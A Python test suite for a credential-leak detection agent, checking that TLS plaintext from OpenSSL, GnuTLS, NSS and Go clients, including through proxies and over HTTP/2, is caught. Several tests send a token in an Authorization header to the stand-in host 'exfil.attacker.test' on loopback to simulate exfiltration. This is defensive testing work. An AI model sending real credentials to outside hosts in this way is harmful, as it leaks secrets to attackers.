# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""TLS egress: plaintext from the TLS library, attributed to the socket it goes out on."""
import contextlib
import os
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

from cwtest import (BufferedWriter, Closing, LoopbackServer, Skip, assert_copying_stopped,
                    budget_holes, child_process, conn_entry, github_token, h2_frame, h2_streams,
                    hpack_literal, kernel_map, own, require_root, running_agent, wait_own,
                    wait_until)

EVIL = "exfil.attacker.test"


def self_signed(d):
    """A throwaway self-signed certificate and key in d."""
    cert, key = os.path.join(d, "c.pem"), os.path.join(d, "k.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
                    "-out", cert, "-days", "1", "-subj", "/CN=localhost"], check=True,
                   capture_output=True)
    return cert, key


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def client_ctx():
    """A client context that takes the tests' self-signed certificates."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


class TlsServer(Closing):
    """openssl s_server on a loopback port with a throwaway self-signed certificate."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="cw-tls-")
        cert, key = self_signed(self.dir)
        self.port = free_port()
        self.proc = subprocess.Popen(["openssl", "s_server", "-accept", str(self.port),
                                      "-cert", cert, "-key", key, "-www", "-quiet"],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(50):
            try:
                socket.create_connection(("127.0.0.1", self.port), 0.2).close()
                return
            except OSError:
                time.sleep(0.1)
        raise AssertionError("s_server did not start")

    def close(self):
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


class ServerProcess(Closing):
    """A server program (argv, in directory cwd) that listens on a loopback port within half a
    second of its start; killed on close."""

    def __init__(self, argv, cwd=None):
        self.proc = subprocess.Popen(argv, cwd=cwd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        time.sleep(0.5)

    def close(self):
        self.proc.kill()
        self.proc.wait()


def run_client(args, with_stderr=False):
    token = github_token()
    with (running_agent("--include-loopback", *args.get("agent_args", [])) as agent,
          TlsServer() as srv):
        pid = args["client"](srv.port, token)
        agent.wait_for(lambda l: l["event"]["action"] ==
                       "credential-unexpected-destination", timeout=15)
        time.sleep(0.5)	# anything more would be a duplicate: let it arrive
    # this test's token only: anything else running on the host is not ours to count
    hits = own(agent, token, "credential-unexpected-destination")
    assert len(hits) == 1, (hits, agent.stderr())
    a = hits[0]
    assert a["credwatch"]["tls"]["library"] == args["library"], a
    assert a["destination"]["port"] == srv.port
    assert a["destination"]["domain"] == EVIL
    assert a["destination"]["ip"] == "127.0.0.1"
    assert a["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    if pid:
        assert a["process"]["pid"] == pid
    agent.assert_no_plaintext(token)
    return (a, agent.stderr()) if with_stderr else a


@contextlib.contextmanager
def curl_header(token):
    """curl's -H argument for an Authorization header with the token, read from a file
    (@FILE): the token is not in curl's argv. The file goes when the block ends."""
    with tempfile.NamedTemporaryFile("w") as hdr:
        hdr.write("Authorization: token %s\n" % token)
        hdr.flush()
        yield "@" + hdr.name


def curl_client(port, token):
    with curl_header(token) as hdr:
        p = subprocess.Popen(["curl", "-sk", "-o", "/dev/null", "-H", hdr, "--resolve",
                              "%s:%d:127.0.0.1" % (EVIL, port),
                              "https://%s:%d/v1" % (EVIL, port)])
        p.wait()
    return p.pid


def test_curl_openssl():
    require_root()
    run_client({"client": curl_client, "library": "openssl"})


def test_python_urllib_openssl():
    require_root()

    def client(port, token):
        import urllib.request
        ctx = client_ctx()
        req = urllib.request.Request("https://127.0.0.1:%d/v1" % port,
                                     headers={"Host": EVIL, "Authorization": "token " + token})
        urllib.request.urlopen(req, context=ctx, timeout=10).read()
        return os.getpid()
    a = run_client({"client": client, "library": "openssl"})
    assert a["network"]["protocol"] == "http"


def test_node_https_static_openssl():
    require_root()
    if not shutil.which("node"):
        raise Skip("node is not installed (scripts/setup installs it)")
    script = (
        "const https=require('https');"
        "const r=https.request({host:'127.0.0.1',port:+process.env.PORT,path:'/v1',"
        "servername:'%s',rejectUnauthorized:false,headers:{Host:'%s',"
        "Authorization:'token '+process.env.TOKEN}},res=>{res.resume();res.on('end',()=>{})});"
        "setTimeout(()=>r.end(),300);" % (EVIL, EVIL))

    def client(port, token):
        p = subprocess.Popen(["node", "-e", script],
                             env={"PATH": os.environ["PATH"], "PORT": str(port), "TOKEN": token})
        p.wait(30)
        return p.pid
    run_client({"client": client, "library": "openssl"})


def test_gnutls_cli():
    require_root()
    if not shutil.which("gnutls-cli"):
        raise Skip("gnutls-cli is not installed (scripts/setup installs gnutls-bin)")

    def client(port, token):
        req = ("GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n"
               "Connection: close\r\n\r\n" % (EVIL, token))
        p = subprocess.Popen(["gnutls-cli", "--insecure", "--sni-hostname", EVIL, "-p",
                              str(port), "127.0.0.1"], stdin=subprocess.PIPE,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(1)	# the handshake first: gnutls-cli reads stdin once connected
        p.stdin.write(req.encode())
        p.stdin.flush()
        time.sleep(1)
        p.stdin.close()
        p.wait(30)
        return p.pid
    run_client({"client": client, "library": "gnutls"})


NSS_CURL = r"""
import ctypes, sys
curl = ctypes.CDLL("libcurl-nss.so.4")
curl.curl_easy_init.restype = ctypes.c_void_p
curl.curl_easy_setopt.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
curl.curl_slist_append.restype = ctypes.c_void_p
curl.curl_slist_append.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
curl.curl_easy_perform.argtypes = [ctypes.c_void_p]
URL, HTTPHEADER, VERIFYPEER, VERIFYHOST, RESOLVE, WRITEDATA = 10002, 10023, 64, 81, 10203, 10001
h = curl.curl_easy_init()
host, port = sys.argv[1], sys.argv[2]
url = b"https://%s:%s/v1" % (host.encode(), port.encode())
curl.curl_easy_setopt(h, URL, ctypes.c_char_p(url))
curl.curl_easy_setopt(h, RESOLVE, ctypes.c_void_p(curl.curl_slist_append(
    None, b"%s:%s:127.0.0.1" % (host.encode(), port.encode()))))
token = sys.stdin.readline().strip().encode()	# not in argv
curl.curl_easy_setopt(h, HTTPHEADER, ctypes.c_void_p(curl.curl_slist_append(
    None, b"Authorization: token " + token)))
curl.curl_easy_setopt(h, VERIFYPEER, ctypes.c_void_p(0))
curl.curl_easy_setopt(h, VERIFYHOST, ctypes.c_void_p(0))
libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
curl.curl_easy_setopt(h, WRITEDATA, ctypes.c_void_p(libc.fopen(b"/dev/null", b"w")))
sys.exit(curl.curl_easy_perform(h))
"""


def _libcurl_nss():
    """Whether libcurl's NSS flavour (Debian's libcurl3-nss) can be loaded."""
    import ctypes
    try:
        ctypes.CDLL("libcurl-nss.so.4")
        return True
    except OSError:
        return False


def test_libcurl_nss():
    """libcurl built on NSS (Debian's libcurl3-nss): its plaintext goes through NSPR's PR_Send
    on the SSL layer's file descriptor, probed in libnspr4."""
    require_root()
    if not _libcurl_nss():
        raise Skip("libcurl-nss.so.4 is not installed (scripts/setup installs libcurl3-nss "
                   "where the distribution has it)")

    def client(port, token):
        p = subprocess.Popen([sys.executable, "-c", NSS_CURL, EVIL, str(port)],
                             stdin=subprocess.PIPE)
        p.communicate((token + "\n").encode(), timeout=30)
        assert p.returncode == 0, p.returncode
        return p.pid
    run_client({"client": client, "library": "nss"})


def test_tls_library_seen_without_loopback_capture():
    """Loopback TCP is not watched by default, but TLS plaintext is: the server name then
    comes from the request's Host header."""
    require_root()
    token = github_token()
    with running_agent() as agent, TlsServer() as srv:
        curl_client(srv.port, token)
        hits = wait_own(agent, token, "credential-unexpected-destination")
    assert len(hits) == 1, agent.stderr()
    assert hits[0]["destination"]["domain"] == EVIL
    assert "ip" not in hits[0]["destination"]	# the socket was not tracked


def _h2_curl(prefix, curl_args, client=None):
    """An nghttpd on loopback (EVIL's name resolves to it) and an agent; curl_args(d, url,
    common, token) gives curl's arguments, common being the options every request needs, or
    client(port, token) is the client instead of curl. Returns (hits of the token, agent,
    curl's stdout or what client returned), after the agent stopped."""
    require_root()
    if not shutil.which("nghttpd"):
        raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
    token = github_token()
    with tempfile.TemporaryDirectory(prefix=prefix, ignore_cleanup_errors=True) as d:
        cert, key = self_signed(d)
        port = free_port()
        with (running_agent("--include-loopback") as agent,
              ServerProcess(["nghttpd", "-d", d, str(port), key, cert])):
            hdr = os.path.join(d, "hdr")
            with open(hdr, "w") as f:
                f.write("Authorization: token %s\n" % token)
            common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
                      "/dev/null"]
            if client:
                out = client(port, token)
            else:
                out = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port),
                                                         common, "@" + hdr)],
                                     capture_output=True, text=True).stdout
            hits = wait_own(agent, token, "credential-unexpected-destination")
    assert len(hits) == 1, agent.stderr()
    assert hits[0]["network"]["protocol"] == "http2"
    assert hits[0]["destination"]["domain"] == EVIL and hits[0]["destination"]["port"] == port
    agent.assert_no_plaintext(token)
    return hits, agent, out


def test_curl_http2_hpack():
    _, _, out = _h2_curl("cw-h2-", lambda d, url, common, hdr: [
        *common, "-w", "%{http_version}", "-H", hdr, url + "v1"])
    assert out == "2", out	# really HTTP/2


GO_H2_CLIENT = r'''
package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net/http"
	"os"
)

func do(c *http.Client, req *http.Request) {
	req.Host = os.Args[2]
	resp, err := c.Do(req)
	if err != nil {
		os.Exit(1)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.ProtoMajor != 2 {
		os.Exit(3)
	}
}

func main() {
	tr := &http.Transport{ForceAttemptHTTP2: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: os.Args[2]}}
	c := &http.Client{Transport: tr}
	up, _ := http.NewRequest("POST", "https://"+os.Args[1]+"/up",
		bytes.NewReader(bytes.Repeat([]byte("u"), 2<<20)))
	do(c, up)
	req, _ := http.NewRequest("GET", "https://"+os.Args[1]+"/v1", nil)
	req.Header.Set("Authorization", "token "+os.Getenv("TOKEN"))
	do(c, req)
}
'''


def test_go_http2_request_after_a_bulk_upload_on_the_same_connection():
    """Go's HTTP/2 transport (its own framer, writing through a buffer to crypto/tls) uploads
    2 MiB, then sends a request with a token on the same connection: past the payload budget,
    the session is followed frame by frame to the request's HEADERS frame, never lost."""
    with tempfile.TemporaryDirectory(prefix="cw-goh2-", ignore_cleanup_errors=True) as d:
        _build_go(d, GO_H2_CLIENT)

        hits, agent, rc = _h2_curl("cw-goh2-srv-", None,
                                   client=lambda port, token: subprocess.run(
                                       [os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
                                       env={"TOKEN": token}, timeout=60).returncode)
    assert rc == 0, rc	# both requests over HTTP/2
    assert hits[0]["credwatch"]["tls"]["library"] == "go", hits[0]
    followed, lost = h2_streams(agent)
    assert followed >= 1 and lost == 0, agent.stderr()


def test_curl_http2_request_after_a_bulk_upload_on_the_same_connection():
    """Past the payload budget the middle of an upload is not copied: the HTTP/2 decoder is
    told of the hole and decodes the next request's (Huffman-coded) headers."""
    def args(d, url, common, hdr):
        big = os.path.join(d, "big.bin")
        with open(big, "wb") as f:
            f.write(os.urandom(2 << 20))
        w = ["-w", "%{http_version} %{num_connects}\n"]
        return [*common, *w, "-T", big, url + "up", "--next", *common, *w, "-H", hdr, url + "v1"]
    _, agent, out = _h2_curl("cw-h2gap-", args)
    assert out.split("\n")[:2] == ["2 1", "2 0"], out	# h2, one connection
    holes = budget_holes(agent)
    assert holes >= 1, agent.stderr()
    # curl's session was followed frame by frame through the upload, to the request after it
    followed, lost = h2_streams(agent)
    assert followed >= 1 and lost == 0, agent.stderr()


GO_CLIENT = r'''
package main

import (
	"crypto/tls"
	"net/http"
	"os"
)

func main() {
	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: os.Args[2]}}
	req, _ := http.NewRequest("GET", "https://"+os.Args[1]+"/v1", nil)
	req.Host = os.Args[2]
	req.Header.Set("Authorization", "token "+os.Getenv("TOKEN"))
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		os.Exit(1)
	}
	resp.Body.Close()
}
'''


def _build_go(d, src, stripped=False):
    """Build the Go program src in directory d as d/client (without a symbol table when
    stripped), offline."""
    require_root()
    if not shutil.which("go"):
        raise Skip("go is not installed (scripts/setup installs golang-go)")
    with open(os.path.join(d, "main.go"), "w") as f:
        f.write(src)
    env = dict(os.environ, HOME=d, GOCACHE=os.path.join(d, "cache"), GOPATH=os.path.join(d, "gp"),
               GO111MODULE="off", CGO_ENABLED="0", GOFLAGS="")
    # -s -w: no symbol table; crypto/tls is then found through .gopclntab
    flags = ["-ldflags=-s -w"] if stripped else []
    subprocess.run(["go", "build", *flags, "-o", os.path.join(d, "client"), "main.go"], cwd=d,
                   env=env, check=True, capture_output=True, timeout=300)


def _go_client(stripped):
    with tempfile.TemporaryDirectory(prefix="cw-go-", ignore_cleanup_errors=True) as d:
        _build_go(d, GO_CLIENT, stripped)
        if stripped:
            syms = subprocess.run(["nm", os.path.join(d, "client")], capture_output=True,
                                  text=True)
            assert "crypto/tls" not in syms.stdout	# really stripped

        def client(port, token):
            p = subprocess.Popen([os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
                                 env={"TOKEN": token})
            assert p.wait(30) == 0
            return p.pid
        run_client({"client": client, "library": "go"})


def test_go_crypto_tls():
    _go_client(stripped=False)


def test_go_crypto_tls_stripped_binary():
    _go_client(stripped=True)


PY_LATE_CLIENT = r'''
import http.client, os, ssl, sys, time
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
c = http.client.HTTPSConnection("127.0.0.1", int(sys.argv[1]), context=ctx, timeout=10)
c.sock = __import__("socket").create_connection(("127.0.0.1", int(sys.argv[1])))
time.sleep(1)   # the agent reads this process's maps on its connect
c.sock = ctx.wrap_socket(c.sock, server_hostname=sys.argv[2])
c.request("GET", "/v1", headers={"Host": sys.argv[2], "Authorization": "token " + os.environ["TOKEN"]})
c.getresponse().read()
'''


def _own_libssl():
    """The path of the libssl this process has mapped (its ssl module is loaded)."""
    with open("/proc/self/maps") as f:
        return [l.split()[-1] for l in f if "libssl.so" in l][0]


def _late_library_client(wrap):
    """A python client whose libssl is a private copy (a file the agent has never seen): it
    must be found from the process's own maps, through /proc/PID/root."""
    libssl = _own_libssl()
    with tempfile.TemporaryDirectory(prefix="cw-lib-", ignore_cleanup_errors=True) as d:
        shutil.copy(libssl, os.path.join(d, os.path.basename(libssl)))
        script = os.path.join(d, "client.py")
        with open(script, "w") as f:
            f.write(PY_LATE_CLIENT)

        def client(port, token):
            cmd = wrap(d, libssl, [sys.executable, script, str(port), EVIL])
            p = subprocess.Popen(cmd, env={"TOKEN": token, "LD_LIBRARY_PATH": d,
                                           "PATH": os.environ["PATH"]})
            assert p.wait(30) == 0
            return None
        return run_client({"client": client, "library": "openssl"}, with_stderr=True)


def test_library_mapped_after_start_is_picked_up():
    require_root()
    a, stderr = _late_library_client(lambda d, lib, argv: argv)
    assert a["process"]["name"].startswith("python")
    # its only user has exited: the probes on the private copy stay for its next user
    # (docs/egress.md: kept across runs, the least recently used detached past 256 files)
    released = int(stderr.split("TLS probes on")[-1].split("(")[1].split()[0])
    assert released == 0, stderr


def test_library_in_a_separate_mount_namespace_is_picked_up():
    require_root()
    # The copy is mounted over the system path in a private mount namespace: same path,
    # another file, visible only through that process's root.
    def wrap(d, lib, argv):
        return ["unshare", "-m", "--propagation", "private", "sh", "-c",
                'mount --bind "$0" "$1" && shift && exec "$@"', os.path.join(d, os.path.basename(lib)),
                lib, *argv]
    _late_library_client(wrap)


def test_capture_inbound_sees_credentials_received():
    """With --capture-inbound, a credential in a TLS response is observed (never an alert)."""
    require_root()
    token = github_token()
    with tempfile.TemporaryDirectory(prefix="cw-in-", ignore_cleanup_errors=True) as d:
        cert, key = self_signed(d)
        with open(os.path.join(d, "creds.txt"), "w") as f:
            f.write("issued: %s\n" % token)
        port = free_port()
        with (running_agent("--capture-inbound", "--events") as agent,
              ServerProcess(["openssl", "s_server", "-accept", str(port), "-cert", cert,
                             "-key", key, "-WWW", "-quiet"], cwd=d)):
            p = subprocess.run(["curl", "-sk", "https://127.0.0.1:%d/creds.txt" % port],
                               capture_output=True, text=True)
            assert token in p.stdout	# the client really received it
            hits = wait_own(agent, token, "credential-received")
    assert len(hits) == 1, agent.stderr()
    h = hits[0]
    assert h["event"]["kind"] == "event"
    assert h["credwatch"]["tls"]["library"] == "openssl"
    assert h["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    assert not [l for l in agent.lines if l["event"]["kind"] == "alert"
                and l.get("credwatch", {}).get("credential", {}).get("fingerprint") == h["credwatch"]["credential"]["fingerprint"]]
    agent.assert_no_plaintext(token)


def test_sequential_sessions_in_one_process_get_their_own_destination():
    """A process that closes one TLS connection and opens another: its library may reuse the
    session object's address; each connection's credential goes with its own server name."""
    require_root()
    token = github_token()
    with running_agent("--include-loopback", "--events") as agent, TlsServer() as srv:
        ctx = client_ctx()
        for host in ("api.github.com", EVIL, "api.github.com"):
            raw = socket.create_connection(("127.0.0.1", srv.port))
            s = ctx.wrap_socket(raw, server_hostname=host)
            s.sendall(("GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n"
                       "Connection: close\r\n\r\n" % (host, token)).encode())
            s.recv(4096)
            s.close()
            time.sleep(0.3)
        fp = agent.key.fingerprint(token)
        agent.wait_for(lambda l: l.get("credwatch", {}).get("credential", {}).get("fingerprint") == fp, count=3,
                       timeout=15)
    fp = agent.key.fingerprint(token)
    mine = [l for l in agent.lines if l.get("credwatch", {}).get("credential", {}).get("fingerprint") == fp
            and l["event"]["action"] in ("credential-sent", "credential-unexpected-destination")]
    got = sorted((l["destination"].get("domain"), l["event"]["action"]) for l in mine)
    assert got == [("api.github.com", "credential-sent"), ("api.github.com", "credential-sent"),
                   (EVIL, "credential-unexpected-destination")], got


def test_library_is_probed_when_it_is_opened():
    """A TLS library the agent has never seen gets its probes when a process opens it (the
    dynamic loader's openat), before any connect: the first write of a program that starts
    and sends at once is not missed."""
    require_root()
    libssl = _own_libssl()
    with tempfile.TemporaryDirectory(prefix="cw-open-", ignore_cleanup_errors=True) as d:
        copy = os.path.join(d, os.path.basename(libssl))
        shutil.copy(libssl, copy)
        with running_agent("-v") as agent:
            # loads the library and never connects anywhere
            subprocess.run([sys.executable, "-c",
                            f"import ctypes, time; ctypes.CDLL({copy!r}); time.sleep(1)"],
                           check=True, timeout=30)
            assert agent.wait_err("TLS probes attached to /proc/", 10), agent.stderr()[-1500:]
            attached = [l for l in agent.stderr().splitlines() if "TLS probes attached to" in l
                        and l.rstrip().split(" (")[0].endswith(copy)]
            assert attached, agent.stderr()[-1500:]


class TlsSink(LoopbackServer):
    """A TLS server in this process that reads whatever comes, on every connection."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="cw-tls-")
        cert, key = self_signed(self.dir)
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(cert, key)
        super().__init__()

    def handle(self, raw):
        try:
            with self.ctx.wrap_socket(raw, server_side=True) as c:
                while c.recv(65536):
                    pass
        except (OSError, ssl.SSLError):
            raw.close()

    def close(self):
        super().close()
        shutil.rmtree(self.dir, ignore_errors=True)


def _budgets(agent, pid):
    """The kernel's payload-budget counts of pid's TLS sessions."""
    return [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == pid]


def tls_connect(port, server_name=EVIL):
    """A TLS client connection to a loopback port, taking any certificate, with server_name
    in its ClientHello; `with tls_connect(port) as s:` closes it when the block ends."""
    return client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", port)),
                                    server_hostname=server_name)


def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open():
    """A keep-alive connection goes quiet after a request whose token is the last thing in
    it: the alert comes within a second or so, not when the connection closes."""
    require_root()
    token = github_token()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          tls_connect(sink.port) as s):
        s.sendall(b"GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n"
                  % (EVIL.encode(), token.encode()))
        hits = wait_own(agent, token, "credential-unexpected-destination", timeout=5)
        assert s.fileno() >= 0	# still open
    assert len(hits) == 1, agent.stderr()
    assert hits[0]["destination"]["port"] == sink.port
    agent.assert_no_plaintext(token)


def _tls_session(send):
    """A client session over TLS to a loopback sink (server name EVIL): send(sock, token,
    authority) writes it, authority being an HPACK :authority field for h2. Asserts that
    exactly the token is alerted on, from OpenSSL, with the server name, and never in
    plaintext; returns the stopped agent."""
    require_root()
    token = github_token()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          tls_connect(sink.port) as s):
        send(s, token, hpack_literal(b":authority", EVIL.encode()))
        hits = wait_own(agent, token, "credential-unexpected-destination", timeout=5)
    assert len(hits) == 1, agent.stderr()
    assert hits[0]["credwatch"]["tls"]["library"] == "openssl"
    assert hits[0]["destination"]["domain"] == EVIL
    agent.assert_no_plaintext(token)
    return agent


def test_request_in_one_large_write_with_its_body_after_others_like_it():
    """curl sends a request's headers and a --data body under 64 KiB in one write: on a
    keep-alive connection each request is one large SSL_write right after the previous
    request's. Past the payload budget such a write still starts with a request line, so it is
    not taken for the middle of a bulk transfer: the token in the last request is found."""
    def send(s, token, _):
        body = b"z" * (96 << 10)
        # at most 16 KiB (the payload cap) of each write counts: the 64 KiB budget is spent
        # after four, and the last two are past it
        for auth in ["none"] * 5 + ["token " + token]:
            s.sendall(b"PUT /blob HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n"
                      b"Content-Length: %d\r\n\r\n" % (EVIL.encode(), auth.encode(), len(body))
                      + body)
    agent = _tls_session(send)
    holes = budget_holes(agent)
    assert holes >= 1, agent.stderr()


def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
    """An h2 client over TLS writes an upload's last DATA frame and the next request's HEADERS
    frame in one SSL_write. Past the payload budget the kernel finds the HEADERS frame behind
    the DATA frame and copies that frame alone: the token after a long cookie is found."""
    def send(s, token, authority):
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        s.sendall(h2_frame(1, 4, 1, authority))
        for _ in range(20):
            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
        request = h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
                           hpack_literal(b"authorization", b"token " + token.encode()))
        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
    _tls_session(send)


def test_h2_frames_followed_across_tls_writes_cut_anywhere():
    """An h2 client over TLS that writes through a 4 KiB buffer (Go's bufio.Writer): past the
    payload budget a request's HEADERS frame starts in the middle of one SSL_write and ends in
    the next; the kernel, following the session's frames from its preface, copies it."""
    def send(s, token, authority):
        w = BufferedWriter(s, 4096)
        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        w.write(h2_frame(1, 4, 1, authority))
        for _ in range(60):
            w.write(h2_frame(0, 0, 1, b"u" * 5000))
        w.write(h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
                         hpack_literal(b"authorization", b"token " + token.encode())))
        w.write(h2_frame(0, 1, 3, b"v" * 3000))
        w.flush()
    agent = _tls_session(send)
    followed, lost = h2_streams(agent)
    assert followed >= 1 and lost == 0, agent.stderr()


def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
    """A watched TCP connection that starts with a TLS ClientHello carries ciphertext after it:
    the kernel copies the ClientHello (its server name) and marks the connection so that
    nothing more of it is copied; the plaintext comes from the TLS probes."""
    require_root()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          tls_connect(sink.port) as s):
        s.sendall(b"z" * (256 << 10))
        entry = conn_entry(agent, s)
    # the ClientHello, not a single 16 KiB TLS record of the ciphertext
    assert_copying_stopped(entry)


class ConnectProxy(LoopbackServer):
    """An HTTP CONNECT proxy on loopback that tunnels every request to one local port,
    whatever host it names, and keeps the requests it was sent."""

    def __init__(self, to_port):
        self.to_port = to_port
        self.requests = []
        super().__init__()

    @staticmethod
    def _pipe(a, b):
        try:
            while True:
                data = a.recv(65536)
                if not data:
                    break
                b.sendall(data)
        except OSError:
            pass
        for x in (a, b):
            try:
                x.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def _handshake(self, c):
        """Read the client's request; answer it once the tunnel is up. False: gone."""
        head = b""
        while b"\r\n\r\n" not in head:
            data = c.recv(4096)
            if not data:
                return False
            head += data
        self.requests.append(head.split(b"\r\n")[0])
        return True

    def _established(self, c):
        c.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")

    def handle(self, c):
        if not self._handshake(c):
            c.close()
            return
        up = socket.create_connection(("127.0.0.1", self.to_port))
        self._established(c)
        threading.Thread(target=self._pipe, args=(up, c), daemon=True).start()
        self._pipe(c, up)
        c.close()
        up.close()


class Socks5Proxy(ConnectProxy):
    """A SOCKS5 proxy (no authentication) that tunnels every request to one local port; it
    keeps the host names it was asked for."""

    @staticmethod
    def _read(c, n):
        out = b""
        while len(out) < n:
            data = c.recv(n - len(out))
            if not data:
                raise OSError("closed")
            out += data
        return out

    def _handshake(self, c):
        try:
            ver, n = self._read(c, 2)
            self._read(c, n)
            c.sendall(b"\x05\x00")
            ver, cmd, _, atyp = self._read(c, 4)
            if ver != 5 or cmd != 1 or atyp != 3:
                return False
            host = self._read(c, self._read(c, 1)[0])
            self._read(c, 2)
        except (OSError, ValueError):
            return False
        self.requests.append(host)
        return True

    def _established(self, c):
        c.sendall(b"\x05\x00\x00\x01\x7f\x00\x00\x01\x00\x00")


def test_curl_through_an_http_connect_proxy():
    """curl reaching an HTTPS server through an HTTP proxy (HTTPS_PROXY, as on many clusters):
    the TCP connection goes to the proxy, its first write is the CONNECT request and the
    TLS ClientHello comes after the proxy's answer. The credential is alerted on once, from
    the TLS plaintext, with the server name the client asked for and the proxy's address."""
    require_root()
    token = github_token()
    with (running_agent("--include-loopback") as agent, TlsServer() as srv,
          ConnectProxy(srv.port) as proxy, curl_header(token) as hdr):
        subprocess.run(["curl", "-sk", "-o", "/dev/null", "-H", hdr, "-x",
                        "http://127.0.0.1:%d" % proxy.port, "https://%s/v1" % EVIL],
                       check=True, timeout=20)
        wait_own(agent, token, "credential-unexpected-destination", timeout=10)
        time.sleep(0.5)	# a duplicate from the tunnel's bytes would come now
    assert proxy.requests == [b"CONNECT %s:443 HTTP/1.1" % EVIL.encode()], proxy.requests
    hits = own(agent, token, "credential-unexpected-destination")
    assert len(hits) == 1, (hits, agent.stderr())
    a = hits[0]
    assert a["credwatch"]["tls"]["library"] == "openssl", a
    assert a["destination"]["domain"] == EVIL, a
    assert a["destination"]["port"] == proxy.port, a
    agent.assert_no_plaintext(token)


def test_tls_through_a_socks5_proxy_names_the_server_from_the_client_hello():
    """Through a SOCKS5 proxy the TCP connection's plaintext (the SOCKS handshake) names no
    server in a form the agent reads, and a protocol other than HTTP names none in the TLS
    plaintext either; the TLS ClientHello after the handshake does (SNI): the alert has that
    server name and the proxy's address."""
    require_root()
    token = github_token()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          Socks5Proxy(sink.port) as proxy,
          socket.create_connection(("127.0.0.1", proxy.port)) as raw):
        raw.sendall(b"\x05\x01\x00")
        assert raw.recv(2) == b"\x05\x00"
        raw.sendall(b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() +
                    (443).to_bytes(2, "big"))
        assert raw.recv(10)[:2] == b"\x05\x00"
        with client_ctx().wrap_socket(raw, server_hostname=EVIL) as s:
            s.sendall(b"AUTH %s\n" % token.encode())	# a line protocol: no Host header
            wait_own(agent, token, "credential-unexpected-destination", timeout=10)
    assert proxy.requests == [EVIL.encode()], proxy.requests
    hits = own(agent, token, "credential-unexpected-destination")
    assert len(hits) == 1, (hits, agent.stderr())
    assert hits[0]["credwatch"]["tls"]["library"] == "openssl", hits[0]
    assert hits[0]["destination"]["domain"] == EVIL, hits[0]
    assert hits[0]["destination"]["port"] == proxy.port, hits[0]
    agent.assert_no_plaintext(token)


def test_tcp_capture_of_a_tunnel_stops_after_its_client_hello():
    """A connection to an HTTP proxy carries a CONNECT request in plaintext, then a TLS
    ClientHello and ciphertext: the kernel stops copying after the ClientHello, wherever in
    the connection it comes, as it does when the ClientHello is the first write."""
    require_root()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          ConnectProxy(sink.port) as proxy,
          socket.create_connection(("127.0.0.1", proxy.port)) as raw):
        raw.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
                    % (EVIL.encode(), EVIL.encode()))
        assert raw.recv(4096).startswith(b"HTTP/1.1 200")
        with client_ctx().wrap_socket(raw, server_hostname=EVIL) as s:
            s.sendall(b"z" * (256 << 10))
            entry = conn_entry(agent, s)
    # the CONNECT request and the ClientHello, not the ciphertext's 64 KiB payload budget
    assert_copying_stopped(entry)


def test_ended_session_leaves_no_payload_budget_behind():
    """The kernel counts what each TLS session (process, session object) has been sent, for
    the payload budget. When a session's socket closes the agent drops the count: the library
